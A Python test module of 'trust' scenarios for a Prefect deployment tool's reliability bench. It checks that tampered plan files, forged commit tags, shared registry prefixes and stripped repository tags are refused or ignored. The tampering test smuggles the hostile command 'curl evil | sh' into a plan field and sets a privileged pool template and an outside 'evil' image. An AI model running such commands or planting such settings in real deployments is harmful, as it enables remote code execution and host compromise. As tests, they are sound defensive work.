"""The "trust" scenarios of `make reliability` (bench/reliability.py): what a careless
neighbour or an attacker can hand a run, tried against the real stack (issue 25).

- tampering: a plan file edited as the author of a pull request could edit it (the review recipe
  of docs/plan-files.md keeps the file the pull-request job wrote), with its hash recomputed as
  anyone can: each edit must be refused (exit 8) with nothing built, pushed or written;
- poisoning: commit records no run should trust (a tag written by hand dated 2099, a commit
  dated 2031 seen from a shallow clone): later commits must still deploy;
- shared prefixes: another repository's image in a registry repository both use, pushed and
  not yet registered, and an image in use spelled `127.0.0.1:5000/…`: keep-images 0 keeps
  both;
- forged tags: a deployment whose `repo:` tag was taken off by hand is not pruned.

Each case is one thing tried; it held when the run refused or ignored what it was handed.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx

from reliability import DOCKER, Checkout, Trial, World, git, scenario
from reliability_scenarios import REGISTRY, outcome


def trust_checkout(world: World, name: str) -> Checkout:
    """A checkout of its own tenant and project, deployed once (two flows)."""
    checkout = world.checkout(name, tenant=f"rel{world.suffix}{name[:2]}",
                              project=f"rt{name[:2]}{world.suffix}")  # fmt: skip
    for flow in ("kept", "gone"):
        checkout.write(flow, flow)
    checkout.commit("flows")
    first = checkout.run("deploy")
    if first.code != 0:
        raise RuntimeError(f"set-up deploy of {name} failed:\n{first.stderr[-2000:]}")
    return checkout


def digest_of(reference: str) -> str | None:
    host, _, rest = reference.partition("/")
    name, _, tag = rest.rpartition(":")
    accept = "application/vnd.docker.distribution.manifest.v2+json"
    answer = subprocess.run(
        ["curl", "-sI", "-H", f"Accept: {accept}", f"http://{host}/v2/{name}/manifests/{tag}"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    for line in answer.stdout.splitlines():
        if line.lower().startswith("docker-content-digest:"):
            return line.split(":", 1)[1].strip()
    return None


_API: list[httpx.Client] = []


def api(world: World) -> httpx.Client:
    """The Prefect API for this module's own calls, retried as the engine's are (the shared
    SQLite server answers 503 while another writer holds it)."""
    if not _API:
        from prefect_flow_deploy.clients.http_retry import client_transport

        _API.append(
            httpx.Client(
                base_url=world.stack.api_url.rstrip("/") + "/",
                timeout=60,
                transport=client_transport(),
            )
        )
    return _API[0]


def hand_made(world: World, name: str, image: str | None = None) -> str:
    """A deployment nobody's run made (no tenant, no repository); its id."""
    flow = api(world).post("flows/", json={"name": name})
    flow.raise_for_status()
    body: dict[str, Any] = {"name": name, "flow_id": flow.json()["id"]}
    if image:
        body |= {"work_pool_name": world.work_pool, "job_variables": {"image": image}}
    made = api(world).post("deployments/", json=body)
    made.raise_for_status()
    return str(made.json()["id"])


def forged(path: Path, data: dict[str, Any]) -> None:
    """The edited plan, with the hash of its new content (the algorithm is public)."""
    from prefect_flow_deploy.rules.plan_hash import plan_hash
    from prefect_flow_deploy.run.plan_file import _adapter

    known = _adapter().validate_python(data)
    path.write_text(json.dumps({**data, "hash": plan_hash(known.plan, known.options)}))


@scenario("trust")
def plan_file_tampering(world: World) -> list[Trial]:
    """Edited plan files, each with its hash recomputed: a second image entry naming another
    repository's reference, a second removal carrying a hand-made deployment's id, the
    template of a pool to create, an unknown field, an image outside the registry, and an
    edit that leaves the recorded hash as it was."""
    checkout = trust_checkout(world, "tamper")
    victim = f"{world.stack.registry}/victim{world.suffix}/sales/daily:0123456789abcdef0123"
    subprocess.run([DOCKER, "tag", world.stack.base_image, victim], check=True)
    subprocess.run([DOCKER, "push", "-q", victim], check=True, capture_output=True)
    subprocess.run([DOCKER, "rmi", victim], check=False, capture_output=True)
    victim_digest = digest_of(victim)
    hand = hand_made(world, f"hand{world.suffix}")
    shutil.rmtree(checkout.root / checkout.project / "gone")
    checkout.commit("a folder gone")
    work = world.work / "plans"
    work.mkdir(exist_ok=True)
    new_pool = ["--work-pool", f"{world.work_pool}-trust"]
    honest = work / "honest.json"
    planned = checkout.run("plan", "--prune", "--out", str(honest))
    pooled = work / "pooled.json"
    pool_plan = checkout.run("plan", "--prune", "--out", str(pooled), *new_pool)
    if planned.code or pool_plan.code:
        return [Trial("trust", "plan file tampering", 1, 0, ["plan --out failed"])]
    data = json.loads(honest.read_text())

    def second_image(d: dict[str, Any]) -> None:
        copy = json.loads(json.dumps(d["plan"]["images"][0]))
        copy["repository"], _, copy["tag"] = victim.rpartition(":")
        d["plan"]["images"].insert(0, copy)

    def second_removal(d: dict[str, Any]) -> None:
        removal = next(x for x in d["plan"]["deployments"] if x["action"] == "remove")
        d["plan"]["deployments"].insert(0, {**removal, "deployment_id": hand})

    def unknown_field(d: dict[str, Any]) -> None:
        d["plan"]["images"][0]["folder"]["flows"][0]["run_before"] = "curl evil | sh"

    def outside(d: dict[str, Any]) -> None:
        spec = next(x["spec"] for x in d["plan"]["deployments"] if x["spec"])
        spec["image"] = "docker.io/evil/flows:1"

    edits: dict[str, Callable[[dict[str, Any]], None]] = {
        "second image entry": second_image,
        "second removal": second_removal,
        "unknown field": unknown_field,
        "image outside the registry": outside,
    }
    why: list[str] = []
    tried = 0
    for name, edit in edits.items():
        tried += 1
        copy = json.loads(json.dumps(data))
        edit(copy)
        path = work / f"{name.replace(' ', '-')}.json"
        forged(path, copy)
        run = checkout.run("deploy", "--prune", "--plan", str(path))
        why += [f"{name}: {w}" for w in outcome(run, 8)]
    # The pool a plan creates, its template edited (privileged, / mounted).
    tried += 1
    pool_data = json.loads(pooled.read_text())
    pool = pool_data["plan"]["pools"][f"{world.work_pool}-trust"]
    pool["template"]["variables"]["properties"]["privileged"]["default"] = True
    forged(pooled, pool_data)
    run = checkout.run("deploy", "--prune", "--plan", str(pooled), *new_pool)
    why += [f"pool template: {w}" for w in outcome(run, 8)]
    if api(world).get(f"work_pools/{world.work_pool}-trust").status_code != 404:
        why.append("pool template: the pool was created")
    # A field that matters, edited without recomputing the hash.
    tried += 1
    unhashed = json.loads(json.dumps(data))
    next(x["spec"] for x in unhashed["plan"]["deployments"] if x["spec"])["job_variables"] = {
        "privileged": True
    }
    (work / "unhashed.json").write_text(json.dumps(unhashed))
    run = checkout.run("deploy", "--prune", "--plan", str(work / "unhashed.json"))
    why += [f"edited, hash as it was: {w}" for w in outcome(run, 8)]

    if digest_of(victim) != victim_digest:
        why.append("the victim's tag was pushed over")
    if api(world).get(f"deployments/{hand}").status_code != 200:
        why.append("the hand-made deployment was deleted")
    if world.deployment(f"gone/{checkout.project}") is None:
        why.append("a refused plan removed a deployment")
    applied = checkout.run("deploy", "--prune", "--plan", str(honest))
    why += [f"the honest plan: {w}" for w in outcome(applied, 0)]
    checkout.expected.discard(f"gone/{checkout.project}")
    api(world).delete(f"deployments/{hand}")
    held = tried - len({w.split(":")[0] for w in why if not w.startswith("the honest")})
    return [Trial("trust", "plan file tampering", tried, max(held, 0), why)]


@scenario("trust")
def poisoned_commit_records(world: World) -> list[Trial]:
    """A commit tag written by hand dated 2099, and a commit dated 2031 deployed from a
    shallow clone: the next commits still deploy."""
    checkout = trust_checkout(world, "poison")
    why: list[str] = []
    name = f"kept/{checkout.project}"
    held = world.deployment(name) or {}
    tags = [t for t in held.get("tags", []) if not t.startswith("commit:")]
    tags.append("commit:0000000@2099-01-01T00:00:00Z")
    api(world).patch(f"deployments/{held['id']}", json={"tags": tags}).raise_for_status()
    checkout.write("kept", "kept", "return 'second'")
    second = checkout.commit("second")
    run = checkout.run("deploy")
    why += [f"forged 2099 tag: {w}" for w in outcome(run, 0)]
    if f"commit:{second}" not in " ".join((world.deployment(name) or {}).get("tags", [])):
        why.append("forged 2099 tag: the later commit was not written")

    checkout.write("kept", "kept", "return 'from the future'")
    future = checkout.commit("clock", when=time.mktime((2031, 1, 1, 0, 0, 0, 0, 0, 0)))
    checkout.write("kept", "kept", "return 'later'")
    later = checkout.commit("later")
    shallow: dict[str, Path] = {}
    for label, sha in (("future", future), ("later", later)):
        target = world.work / f"poison-{label}"
        subprocess.run(["git", "clone", "-q", "--depth", "1", "--no-single-branch",
                        f"file://{checkout.path}", str(target)], check=True)  # fmt: skip
        git(target, "fetch", "-q", "--depth", "1", "origin", sha)
        git(target, "checkout", "-q", sha)
        shallow[label] = target / "projects"
    for label in ("future", "later"):
        run = checkout.run("deploy", "--projects-root", str(shallow[label]))
        why += [f"2031 commit ({label}): {w}" for w in outcome(run, 0)]
    if f"commit:{later}" not in " ".join((world.deployment(name) or {}).get("tags", [])):
        why.append("2031 commit: the later commit from a shallow clone was skipped")
    checkout.write("kept", "kept", "return 'later'")  # the checkout holds what is deployed
    failures = {w.split(":")[0] for w in why}
    return [Trial("trust", "poisoned commit records", 2, 2 - len(failures), why)]


@scenario("trust")
def shared_prefix_keep_images(world: World) -> list[Trial]:
    """keep-images 0 keeps another repository's image under a shared prefix (pushed, not
    yet registered) and an image in use spelled `127.0.0.1:5000/…`."""
    ours = trust_checkout(world, "shared")
    theirs = world.checkout("shared-b", tenant=f"rel{world.suffix}sb", project=ours.project,
                            repository=f"acme/rel-shared-b-{world.suffix}")  # fmt: skip
    theirs.registry = ours.registry  # the same prefix, the same folder (another flow name)
    theirs.write("kept", "kept_b", "return 'b'")
    run = theirs.run("deploy", "--json")
    if run.code != 0:
        return [Trial("trust", "shared prefixes", 2, 0, [f"B's deploy: exit {run.code}"])]
    image_b = str(run.json()[0]["image"])
    for deployment in world.deployments(theirs.tenant):  # B is between its push and its write
        api(world).delete(f"deployments/{deployment['id']}")
    theirs.expected, theirs.dirty = set(), False
    in_use = (world.deployment(f"kept/{ours.project}") or {}).get("job_variables", {})
    loopback = str(in_use.get("image", "")).replace("localhost:", "127.0.0.1:", 1)
    hand = hand_made(world, f"loop{world.suffix}", loopback)
    ours.write("kept", "kept", "return 'a2'")
    ours.commit("a2")
    trimmed = ours.run("deploy", "--keep-images", "0")
    why = outcome(trimmed, 0)
    if not world.image_exists(image_b):
        why.append("another repository's image: deleted")
    if not world.image_exists(loopback.replace("127.0.0.1:", "localhost:", 1)):
        why.append("the image in use as 127.0.0.1:5000/…: deleted")
    api(world).delete(f"deployments/{hand}")
    failures = {w.split(":")[0] for w in why}
    return [Trial("trust", "shared prefixes", 2, max(2 - len(failures), 0), why)]


@scenario("trust")
def forged_repository_tag(world: World) -> list[Trial]:
    """A deployment whose `repo:` tag was taken off by hand is not pruned."""
    checkout = trust_checkout(world, "forged")
    name = f"gone/{checkout.project}"
    held = world.deployment(name) or {}
    tags = [t for t in held.get("tags", []) if not t.startswith("repo:")]
    api(world).patch(f"deployments/{held['id']}", json={"tags": tags}).raise_for_status()
    shutil.rmtree(checkout.root / checkout.project / "gone")
    checkout.commit("gone")
    run = checkout.run("deploy", "--prune")
    why = outcome(run, 0)
    if world.deployment(name) is None:
        why.append("pruned a deployment that records no repository")
    return [Trial("trust", "forged repository tag", 1, 0 if why else 1, why)]


__all__ = ["REGISTRY"]
